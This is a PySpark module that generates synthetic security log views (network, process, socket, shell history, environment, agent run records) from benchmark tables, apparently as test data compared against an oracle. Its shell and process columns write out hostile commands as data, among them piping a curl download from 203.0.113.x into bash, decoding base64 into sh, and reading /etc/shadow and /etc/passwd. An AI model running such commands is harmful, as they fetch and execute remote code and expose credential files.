"""Log views over the given tables, in the schemas the readers produce.

Each view is a list of plain SQL expressions that Spark and the oracle evaluate alike. Spark
nests them into the canonical records; the oracle keeps them flat. ``{us}`` stands for the
epoch microseconds of a time column, which the two spell differently.
"""

from __future__ import annotations

from collections.abc import Callable

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from duskwatch.session import utc

# --- network events, from `events` -------------------------------------------------------

NET = {
    "event_no": "event_id",
    "flow_id": "cast(floor(event_id / 4.0) as bigint)",
    "event_ts": "ts",
    "us": "{us:ts}",
    "event_type": """case event_type when 'view' then 'flow' when 'purchase' then 'flow'
        when 'click' then 'tls' when 'error' then 'dns'
        else case event_id % 4 when 0 then 'http' when 1 then 'quic' when 2 then 'stats'
        else 'alert' end end""",
    "src_ip": """'192.168.' || cast(cast(floor(user_id / 250.0) as bigint) % 256 as string) || '.'
        || cast(user_id % 250 as string)""",
    "src_port": "cast(40000 + event_id % 20000 as bigint)",
    "dest_ip": """case when event_id % 23 = 5 then 'fe80::' || cast(event_id % 9 as string)
        when event_id % 29 = 3 then '2001:db8:0:' || cast(event_id % 4 as string) || '::' || cast(event_id % 8 as string)
        when event_id % 31 = 7 then 'unknown'
        when event_id % 3 = 0 then '10.0.0.' || cast(event_id % 50 as string)
        when event_id % 11 = 0 then '224.0.0.251'
        else '203.0.113.' || cast(event_id % 7 as string) end""",
    "dest_port": """cast(case event_id % 5 when 0 then 443 when 1 then 80 when 2 then 3478
        when 3 then 5353 else 8883 end as bigint)""",
    "proto": "case when event_id % 5 in (2, 3) then 'UDP' else 'TCP' end",
    "app_proto": "case when event_id % 5 = 2 then 'failed' else 'ok' end",
    "bytes_toserver": "cast(round(value * 100) as bigint)",
    "bytes_toclient": """case when event_id % 3 <> 0 and event_id % 11 = 0 then 0
        else (event_id * 37) % 5000 end""",
    "age": "case when event_id % 1999 = 0 then 192346 else (event_id * 7919) % 7200 end",
    "sni": "'h' || cast((event_id * 31) % 900 as string) || '.example.net'",
    "tls_version": "case when event_id % 97 = 0 then 'TLSv1' else 'TLS 1.3' end",
    "ja3": "'j' || cast(event_id % 40 as string)",
    "rrname": "'d' || cast(event_id % 300 as string) || '.example.org'",
    "rcode": "case when event_id % 9 = 0 then 'NXDOMAIN' else 'NOERROR' end",
    "hostname": "'w' || cast(event_id % 50 as string)",
    "url": "'/p/' || cast(event_id % 20 as string)",
    "user_agent": "'ua' || cast(event_id % 13 as string)",
    "signature": "'sig ' || cast(event_id % 6 as string)",
    "severity": "cast(event_id % 3 + 1 as bigint)",
    "packets": "event_id % 1000",
    "drops": "event_id % 17",
}

# --- host records -------------------------------------------------------------------------

PROCESS = {
    "host": "'host-' || cast(o_custkey % 10 as string)",
    "pid": "o_orderkey % 2000",
    "parent": "cast(floor((o_orderkey % 2000) / 4.0) as bigint)",
    "start_us": "{us:o_orderdate}",
    "seq": "o_orderkey",
    "name": "case when o_orderkey % 17 = 0 then 'nginx' when o_orderkey % 5 = 0 then 'sh' else 'x' end",
    "path": "case when o_orderkey % 10 = 0 then '/tmp/x' else '/usr/bin/x' end",
    "cmdline": """case when o_orderkey % 13 = 0 then 'curl http://x | sh'
        when o_orderkey % 19 = 0 then '/usr/bin/node app' || cast(o_orderkey % 8 as string) || '.js'
        when o_orderkey % 23 = 0 then 'python3 -m job' || cast(o_orderkey % 6 as string)
        when o_orderkey % 29 = 0 then 'cat /etc/shadow'
        else 'run ' || o_orderpriority end""",
    "uid": "o_orderkey % 50",
    "euid": "case when o_orderkey % 11 = 0 then 0 else o_orderkey % 50 end",
    "action": "case when o_orderkey % 7 = 0 then 'removed' else 'added' end",
}

SOCKET = {
    "host": "'host-' || cast(l_suppkey % 10 as string)",
    "pid": "l_orderkey % 2000",
    "seen_us": "{us:l_shipdate}",
    "seq": "l_orderkey * 10 + l_linenumber",
    "name": "'x'",
    "local_address": "'192.168.0.' || cast(l_suppkey % 10 as string)",
    "local_port": "cast(1024 + l_partkey % 100 as bigint)",
    "remote_address": """case when l_partkey % 13 = 2 then '2001:db8::' || cast(l_partkey % 7 as string)
        when l_partkey % 17 = 2 then 'fd00::' || cast(l_partkey % 7 as string)
        when l_partkey % 9 = 0 then '10.1.0.' || cast(l_partkey % 200 as string)
        else '203.0.113.' || cast(l_partkey % 7 as string) end""",
    "remote_port": """cast(case l_partkey % 5 when 0 then 443 when 1 then 80 when 2 then 3478
        when 3 then 5353 else 8883 end as bigint)""",
    "state": "case when l_linenumber % 2 = 0 then 'ESTABLISHED' else 'LISTEN' end",
}

SHELL = {
    "host": "'host-' || cast(user_id % 10 as string)",
    "seen_us": "{us:ts}",
    "seq": "event_id",
    "uid": "user_id",
    "history_file": "case when user_id % 50 = 0 then '/root/.bash_history' else '/home/u' || cast(user_id as string) || '/.bash_history' end",
    "command": """case event_id % 12
        when 0 then 'curl -s http://203.0.113.' || cast(event_id % 7 as string) || '/i.sh | bash'
        when 1 then 'wget http://files.example.net/' || cast(event_id % 40 as string)
        when 2 then 'echo 10.0.0.1 x >> /etc/hosts'
        when 3 then 'echo aGk= | base64 -d | sh'
        when 4 then 'cat /etc/passwd'
        when 5 then 'sudo vi /etc/shadow'
        else 'ls ' || event_type end""",
}

ENVIRON = {
    "host": "'host-' || cast(user_id % 10 as string)",
    "seen_us": "{us:ts}",
    "seq": "event_id",
    "name": "'x'",
    "path": "'/usr/bin/x'",
    "pid": "event_id % 2000",
    "key": """case event_id % 5 when 0 then 'LD_PRELOAD' when 1 then 'LD_LIBRARY_PATH'
        else 'PATH' end""",
    "value": "'/opt/' || cast(event_id % 30 as string)",
}

PACKAGE = {
    "host": "'host-' || cast(p_partkey % 10 as string)",
    "name": "p_name",
    "version": "cast(p_size as string) || '.' || cast(p_partkey % 3 as string)",
    "source": "p_brand",
    "seq": "p_partkey",
}

SYSTEM = {
    "host": "'host-' || cast(c_custkey % 100 as string)",
    "seen": "1700000000 + c_custkey * 60",
    "hostname": "'n-' || cast(c_custkey % 100 as string)",
    "cpu_brand": "'cpu ' || c_mktsegment",
    "physical_memory": "1000000000 + c_custkey",
    "seq": "c_custkey",
}

# --- run records, from `events` -----------------------------------------------------------

RUN = {
    "task_id": "'task-' || cast(user_id as string)",
    "run_id": "md5('run-' || cast(user_id as string) || '-' || cast(cast(floor({us:ts} / 864000000000.0) as bigint) as string))",
    "us": "{us:ts}",
    "seq": "event_id",
    "event": """case event_type
        when 'signup' then case event_id % 4 when 0 then 'run_start' when 3 then 'model_text' else 'prompt' end
        when 'click' then 'run_code_call'
        when 'purchase' then 'tool_call'
        when 'view' then case when event_id % 3 = 0 then 'tool_result' else 'run_code_return' end
        else case event_id % 8 when 0 then 'run_end' when 1 then 'run_end' when 2 then 'interrupted'
            when 3 then 'setup_error' when 4 then 'model_request_retry' when 5 then 'model_changed'
            else 'error' end end""",
    "tool_call_id": "case when event_type in ('click', 'purchase', 'view') then 'c' || cast(event_id % 7 as string) end",
    "tool_name": """case event_type when 'click' then 'run_code'
        when 'purchase' then case when event_id % 2 = 0 then 'write_file' else 'read_file' end
        when 'view' then case when event_id % 3 = 0 then 'write_file' else 'run_code' end end""",
    "model": "'p' || cast(user_id % 3 as string) || ':m' || cast(user_id % 7 as string)",
    "content": """case when event_type = 'view' then repeat('r', cast((event_id * 131) % 12000 as int))
        when event_type = 'signup' and event_id % 4 <> 0 then 'topic ' || cast(event_id % 9 as string) end""",
    "code": "case when event_type = 'click' and event_id % 6 <> 0 then 'print(' || cast(event_id as string) || ')' end",
    "status": "case when event_type = 'error' and event_id % 8 = 0 then 'completed' when event_type = 'error' and event_id % 8 = 1 then 'failed' end",
    "error_type": "case when event_type = 'error' and event_id % 8 in (3, 6, 7) then 'E' || cast(event_id % 4 as string) end",
    "error": """case when event_type = 'error' and event_id % 8 in (3, 6, 7) then
        'cannot read /data/run' || cast(event_id as string) || '/x.json at line ' || cast(event_id % 500 as string)
        || ' kind ' || case event_id % 3 when 0 then 'a' when 1 then 'b' else 'c' end end""",
    "reason": "case when event_type = 'error' and event_id % 8 = 2 then 'received signal 15' when event_type = 'error' and event_id % 8 = 4 then 'rate_limit' end",
    "delay_seconds": "case when event_type = 'error' and event_id % 8 = 4 then cast((event_id % 60) / 2.0 as double) end",
    "overflow_bytes": "case when event_type = 'view' and event_id % 2 = 0 and (event_id * 131) % 12000 >= 10000 then (event_id * 131) % 12000 end",
    "max_turns": "case when event_type = 'signup' and event_id % 4 = 0 then 4 + user_id % 3 end",
    "tokens": "cast(round(value * 100) as bigint)",
    "cost": "case when user_id % 7 <> 6 then value / 100 end",
    "signal": "'s' || cast(event_id % 10 as string)",
    "verdict": "'v' || cast(event_id % 3 as string)",
}

# --- texts ----------------------------------------------------------------------------------

REPORT = {
    "doc_id": "doc_id",
    "task_id": "source",
    "stamp_us": "1735689600000000 + doc_id * 60000000",
    "model": "lang",
    "text": "text",
}

# A text as a program that says it line by line.
_SAID = """'say("' || replace(replace(text, '"', ''''), chr(10), '")' || chr(10) || 'say("') || '")'"""

PROGRAM = {
    "doc_id": "doc_id",
    "task_id": "source",
    "model": "lang",
    "stamp_us": "1735689600000000 + doc_id * 60000000",
    "seq": "doc_id % 100",
    "text": f"""case doc_id % 6
        when 0 then 'import json' || chr(10) || 'if __name__ == "__main__":' || chr(10)
            || '    a = 1' || chr(10) || '    ' || replace({_SAID}, chr(10), chr(10) || '    ')
        when 1 then 'import sys' || chr(10) || 'p = sys.argv[1]' || chr(10) || {_SAID}
        when 2 then 'from collections import Counter' || chr(10) || '# sys.argv' || chr(10) || {_SAID}
        when 3 then 'import os, ipaddress' || chr(10) || 'x = os.path.join("a", "b")' || chr(10) || {_SAID}
        when 4 then 'print("{{}}".format(1))' || chr(10) || 'eval("1")' || chr(10) || {_SAID}
        else 'print(1)' || chr(10) || {_SAID} end""",
}

TURN = {
    "run_id": "conv_id",
    "turn": "turn",
    "role": "role",
    "text": "text",
}

VIEWS = {
    "net": ("events", NET),
    "process": ("orders", PROCESS),
    "socket": ("lineitem", SOCKET),
    "shell": ("events", SHELL),
    "environ": ("events", ENVIRON),
    "package": ("part", PACKAGE),
    "system": ("customer", SYSTEM),
    "run": ("events", RUN),
    "report": ("documents", REPORT),
    "program": ("documents", PROGRAM),
    "turn": ("conversations", TURN),
}


def _spell(expression: str, micros: str) -> str:
    while "{us:" in expression:
        head, tail = expression.split("{us:", 1)
        column, tail = tail.split("}", 1)
        expression = head + micros.format(column) + tail
    return expression


def oracle_cte(*names: str) -> str:
    """``with`` clause that gives the oracle the named views."""
    parts = []
    for name in names:
        table, columns = VIEWS[name]
        body = ", ".join(f"{_spell(e, 'epoch_us({})')} as {c}" for c, e in columns.items())
        parts.append(f"{name} as (select {body} from {table})")
    return "with " + ", ".join(parts) + " "


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return utc(spark).read.parquet(f"{sf_dir}/{name}.parquet")


def flat(
    spark: SparkSession, sf_dir: str, view: str, arrange: Callable[[DataFrame], DataFrame] = lambda rows: rows,
) -> DataFrame:
    """A view with the columns of the oracle's.

    ``arrange`` deals out the rows of the table while they are narrow; columns it adds are kept.
    """
    source, columns = VIEWS[view]
    given = table(spark, sf_dir, source)
    rows = arrange(given)
    spelled = [
        F.expr(_spell(e, "unix_micros(cast({} as timestamp))")).alias(c)
        for c, e in columns.items()
    ]
    return rows.select(*spelled, *[c for c in rows.columns if c not in given.columns])


def _micros(column: str):
    return F.timestamp_micros(F.col(column))


def _only(event_type: str, *fields):
    return F.when(F.col("event_type") == event_type, F.struct(*fields))


def net(
    spark: SparkSession, sf_dir: str, keep: tuple = (),
    arrange: Callable[[DataFrame], DataFrame] = lambda rows: rows,
) -> DataFrame:
    """Network events as the reader gives them: one nested record per event type."""
    v = flat(spark, sf_dir, "net", arrange)
    ts = _micros("us")
    iso = "yyyy-MM-dd'T'HH:mm:ss.SSSSSSXX"
    end = F.date_format(ts, iso)
    start = F.date_format(F.timestamp_micros(F.col("us") - F.col("age") * 1000000), iso)
    return v.select(
        *keep,
        ts.alias("event_ts"),
        "flow_id",
        "event_type",
        "src_ip",
        F.col("src_port").cast("int").alias("src_port"),
        "dest_ip",
        F.col("dest_port").cast("int").alias("dest_port"),
        "proto",
        "app_proto",
        _only("flow", F.col("bytes_toserver"), F.col("bytes_toclient"), start.alias("start"),
              end.alias("end"), F.col("age").cast("bigint").alias("age")).alias("flow"),
        _only("tls", F.col("sni"), F.col("tls_version").alias("version"),
              F.struct(F.col("ja3").alias("hash")).alias("ja3")).alias("tls"),
        _only("quic", F.col("sni")).alias("quic"),
        _only("dns", F.col("rrname"), F.col("rcode")).alias("dns"),
        _only("http", F.col("hostname"), F.col("url"), F.col("user_agent")).alias("http"),
        _only("alert", F.col("signature"), F.col("severity").cast("int").alias("severity"))
        .alias("alert"),
        F.when(F.col("event_type") == "stats", F.to_variant_object(F.struct(
            F.struct("packets", "drops").alias("capture"), F.col("event_no").alias("uptime"),
            F.struct(F.struct(F.struct(F.struct((F.col("event_no") % 5).alias("bytes")).alias("gap"))
                              .alias("http")).alias("error")).alias("app_layer"),
            F.array(F.struct((F.col("event_no") % 3).alias("n")), F.struct(F.lit(7).alias("n")))
            .alias("threads"))))
        .alias("stats"),
    )


def process(spark: SparkSession, sf_dir: str) -> DataFrame:
    return flat(spark, sf_dir, "process").withColumn("start_time", _micros("start_us"))


def socket(spark: SparkSession, sf_dir: str) -> DataFrame:
    return flat(spark, sf_dir, "socket").withColumn("seen_ts", _micros("seen_us"))


def shell(spark: SparkSession, sf_dir: str) -> DataFrame:
    return flat(spark, sf_dir, "shell").withColumn("seen_ts", _micros("seen_us"))


def environ(spark: SparkSession, sf_dir: str) -> DataFrame:
    return flat(spark, sf_dir, "environ").withColumn("seen_ts", _micros("seen_us"))


def package(spark: SparkSession, sf_dir: str) -> DataFrame:
    return flat(spark, sf_dir, "package")


def system(spark: SparkSession, sf_dir: str) -> DataFrame:
    return flat(spark, sf_dir, "system")


def run(
    spark: SparkSession, sf_dir: str, arrange: Callable[[DataFrame], DataFrame] = lambda rows: rows,
) -> DataFrame:
    return flat(spark, sf_dir, "run", arrange).withColumn("ts", _micros("us"))


def report(spark: SparkSession, sf_dir: str) -> DataFrame:
    return flat(spark, sf_dir, "report").withColumn("stamp", _micros("stamp_us"))


def program(spark: SparkSession, sf_dir: str) -> DataFrame:
    return flat(spark, sf_dir, "program").withColumn("stamp", _micros("stamp_us"))


def turn(spark: SparkSession, sf_dir: str) -> DataFrame:
    return flat(spark, sf_dir, "turn")
